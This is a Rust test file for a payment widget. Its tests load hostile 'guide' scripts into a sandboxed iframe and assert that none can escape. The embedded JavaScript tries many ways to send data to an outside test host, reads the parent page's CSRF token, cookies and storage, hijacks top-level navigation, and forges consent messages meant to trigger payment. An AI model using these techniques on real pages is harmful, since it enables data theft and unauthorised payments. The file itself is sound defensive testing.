//! Guides that a shop has signed for and that want more than guiding. None gets anything.

use super::*;

/// Tells the page how each attempt went; a test listens beside the script.
const TELL: &str = r#"
const tell = (way, how) => parent.postMessage({way, how}, '*')
const tried = async (way, work) => {
  try { tell(way, `done ${await work()}`) } catch (error) { tell(way, `failed ${error.name}`) }
}
const soon = work => new Promise((resolve, reject) => {
  work(resolve, reject)
  setTimeout(() => reject(new DOMException('', 'Silence')), 1500)
})
"#;

/// Everything that a program in a page could send with, or reach the page around it with.
#[expect(clippy::too_many_lines, reason = "a list of ways out")]
fn ways_out(stranger: &str, udp: u16) -> String {
    let attempts = r#"
tried('fetch', () => fetch(there + '/fetch', {mode: 'no-cors'}))
tried('own server', () => fetch(own + '/card', {credentials: 'include'}).then(a => a.text()))
tried('xhr', () => soon((yes, no) => {
  const request = new XMLHttpRequest()
  request.onload = yes; request.onerror = no
  request.open('GET', there + '/xhr'); request.send()
}))
tried('socket', () => soon((yes, no) => {
  const socket = new WebSocket(there.replace('http', 'ws') + '/socket')
  socket.onopen = yes; socket.onerror = no
}))
tried('events', () => soon((yes, no) => {
  const events = new EventSource(there + '/events'); events.onopen = yes; events.onerror = no
}))
tried('beacon', () => { if (!navigator.sendBeacon(there + '/beacon', 'x')) throw new DOMException('', 'No') ; return 'queued' })
tried('image', () => soon((yes, no) => {
  const image = new Image(); image.onload = yes; image.onerror = no; image.src = there + '/image'
}))
tried('import', () => import(there + '/module.js'))
tried('worker', () => soon((yes, no) => {
  const code = `fetch('${there}/worker').then(() => postMessage(1))`
  const worker = new Worker(URL.createObjectURL(new Blob([code])))
  worker.onmessage = yes; worker.onerror = no
}))
tried('eval', () => Function('return 1')())
tried('style', () => soon((yes, no) => {
  const link = document.createElement('link')
  link.rel = 'stylesheet'; link.href = there + '/style'; link.onload = yes; link.onerror = no
  document.head.append(link)
}))
for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload', 'prerender']) {
  const link = document.createElement('link')
  link.rel = rel; link.as = 'fetch'; link.href = there + '/' + rel
  document.head.append(link)
}
tried('font', () => new FontFace('x', `url(${there}/font)`).load())
tried('frame', () => {
  const frame = document.createElement('iframe')
  frame.src = there + '/frame'; document.body.append(frame)
  return 'made'
})
const self = `<scr${'ipt'}>${document.currentScript.textContent}</scr${'ipt'}>`
const child = document.createElement('iframe')
tried('frame of text', () => { child.srcdoc = self; document.body.append(child); return 'made' })
tried('frame by attribute', () => { child.setAttribute('srcdoc', self); return 'made' })
tried('markup', () => { document.body.innerHTML = '<iframe srcdoc="x">'; return 'made' })
tried('writing', () => { document.write(self); return 'made' })
tried('fragment', () => document.createRange().createContextualFragment(self))
tried('parsing', () => new DOMParser().parseFromString(self, 'text/html'))
tried('fresh window', () => {
  const frame = document.createElement('iframe'); document.body.append(frame)
  return new frame.contentWindow.RTCPeerConnection()
})
tried('script', () => { const made = document.createElement('script'); made.textContent = 'tell()'; document.body.append(made); return 'made' })
tried('window', () => { const opened = open(there + '/window'); if (!opened) throw new DOMException('', 'Null'); return 'open' })
tried('top', () => { top.location = there + '/top'; return 'set' })
tried('top by name', () => { open(there + '/top2', '_top'); return 'set' })
for (const target of ['_self', '_top', '_blank', '_parent']) {
  tried('form ' + target, () => {
    const form = document.createElement('form')
    form.method = 'post'; form.action = there + '/form'; form.target = target
    document.body.append(form); form.submit()
    return 'sent'
  })
}
tried('parent', () => parent.document.querySelector('[name=csrf]').value)
tried('top document', () => top.document.title)
tried('parent storage', () => parent.localStorage.length)
tried('storage', () => localStorage.length)
tried('cookie', () => document.cookie)
tried('database', () => soon((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no }))
tried('referrer', () => { if (document.referrer) return document.referrer; throw new DOMException('', 'None') })
tried('calls', () => soon((yes, no) => {
  const connection = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + udp}]})
  connection.createDataChannel('x')
  connection.createOffer().then(offer => connection.setLocalDescription(offer)).catch(no)
}))
"#;
    format!(
        "const there = '{stranger}', own = 'http://wallet.localhost', udp = {udp}\n{TELL}{attempts}"
    )
}

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn a_guide_has_no_way_out_and_sees_nothing_of_the_page() {
    let fair = Fair::open();
    let guide = ways_out(&fair.stranger.address, fair.udp);
    let bill = fair.bill(&guide);
    let told = fair.visit(
        &bill,
        json!({"steps": [
            ["wait", "#card-guide iframe"],
            ["sleep", 3000],
            ["eval", "heard", "Object.fromEntries(globalThis.heard.map(h => [h.way, h.how]))"],
            ["eval", "state", "document.querySelector('#card-stage').dataset.state"],
        ]}),
    );
    let heard = told["heard"].as_object().unwrap();
    assert!(heard.len() >= 34, "all were tried: {told:#}");
    // These begin something that then comes to nothing: what counts is that nobody heard of it.
    let begun = [
        "beacon",
        "frame",
        "top",
        "top by name",
        "form _self",
        "form _top",
        "form _blank",
        "form _parent",
        "window",
    ];
    for (way, how) in heard {
        let how = how.as_str().unwrap();
        assert!(
            how.starts_with("failed") || begun.contains(&&**way),
            "{way}: {how}"
        );
    }
    let requests = told["requests"].as_array().unwrap();
    assert!(
        !requests.iter().any(
            |r| r.as_str().unwrap().starts_with("POST") && r.as_str().unwrap().contains("form")
        ),
        "{requests:#?}"
    );
    assert_eq!(heard_by(&fair.stranger), [""; 0], "nobody heard anything");
    assert_eq!(fair.packets.load(Ordering::SeqCst), 0, "nor over UDP");
    assert_eq!(told["pages"], 0, "no window was opened");
    assert!(text(&told, "address").starts_with(&fair.own), "{told:#}");
    assert_eq!(told["state"], "quote");
    nothing_was_paid(&fair);
}

/// Chromium opens a connection for a navigation before it looks at the policy, and sends nothing on it.
fn heard_by(stranger: &WebShop) -> Vec<String> {
    let asked = stranger.all_asked().into_iter();
    asked.filter(|path| !path.is_empty()).collect()
}

fn nothing_was_paid(fair: &Fair) {
    assert_eq!(fair.on_card(), 5_000);
    assert_eq!(fair.town.came(80).0, 0, "nothing was agreed to");
    assert!(fair.folder.path().exists());
}

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn a_guide_cant_lead_its_frame_elsewhere() {
    for (to_stranger, when) in [(true, 0), (true, 700), (false, 700)] {
        let fair = Fair::open();
        let to = match to_stranger {
            true => format!("{}/gone?secret", fair.stranger.address),
            false => format!("{}/history", fair.own),
        };
        let guide = format!("setTimeout(() => {{ location = '{to}' }}, {when})");
        let bill = fair.bill(&guide);
        let after = match when {
            0 => json!(["sleep", 1500]),
            _ => json!(["wait", "#card-said:not(:empty)"]),
        };
        let plan = json!({"steps": [
            ["wait", "#card-guide iframe"], after, ["count", "frames", "iframe"],
        ]});
        let told = fair.visit(&bill, plan);
        assert_eq!(heard_by(&fair.stranger), [""; 0], "{told:#}");
        let blocked = complaints(&told).join(" ");
        assert!(blocked.contains("frame-src"), "{told:#}");
        assert_eq!(told["frames"], json!(i32::from(when == 0)), "it's gone");
    }
}

/// It says all that could be taken for a consent, from the beginning and when it's told to wait.
#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn a_guide_can_agree_to_nothing() {
    let fair = Fair::open();
    let guide = r#"
const lies = [
  {tegata: 1, ask: 'agree'}, {tegata: 1, ask: 'pay'}, {tegata: 1, ask: 'answer', agreed: 'yes'},
  {agreed: 'yes'}, {tegata: 1, state: 'waiting'}, {tegata: 1, state: 'paid'}, 'yes', null, 7,
  {ask: {toString: () => 'begin'}.toString()}, {tegata: 1, ask: 'begin'},
]
const say = () => { for (const lie of lies) parent.postMessage(lie, '*') }
say()
let asked = 0
addEventListener('message', event => {
  if (event.data.state === 'waiting') parent.postMessage({ask: 'begin'}, '*')
  if (event.data.state === 'asking' && asked++ === 0) say()
})
"#;
    let bill = fair.bill(guide);
    let told = fair.visit(
        &bill,
        json!({"steps": [
            ["wait", "#card-guide iframe"],
            ["sleep", 1000],
            ["eval", "before", "document.querySelector('#card-stage').dataset.state"],
            ["eval", "posts", "performance.getEntriesByType('resource').filter(r => r.name.endsWith('/card/pay')).length"],
            ["click", "#card-stage form button"],
            ["state", "asking"],
            ["sleep", 1500],
            ["eval", "after", "document.querySelector('#card-stage').dataset.state"],
        ]}),
    );
    assert_eq!(
        (&told["before"], &told["posts"]),
        (&json!("quote"), &json!(0))
    );
    assert_eq!(
        told["after"], "asking",
        "the second consent is the member's"
    );
    assert_eq!(fair.on_card(), 5_000);
    let answers = told["requests"].as_array().unwrap().iter();
    assert_eq!(
        answers
            .filter(|r| r.as_str().unwrap().ends_with("/card/answer"))
            .count(),
        0
    );
}

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn a_guide_that_floods_is_stopped_and_the_payment_goes_on() {
    let fair = Fair::open();
    let guide = "setInterval(() => { for (let i = 0; i < 200; i++) parent.postMessage({ask: 'ready'}, '*') }, 1)";
    let bill = fair.bill(guide);
    let told = fair.visit(
        &bill,
        json!({"steps": [
            ["wait", "#card-said:not(:empty)"],
            ["text", "said", "#card-said"],
            ["count", "frames", "iframe"],
            ["click", "#card-stage form button"],
            ["state", "asking"],
            ["click", "#card-stage button.danger"],
            ["state", "paid"],
        ]}),
    );
    assert!(text(&told, "said").contains("was stopped"), "{told:#}");
    assert_eq!(told["frames"], 0);
    assert_eq!(fair.on_card(), 650);
}
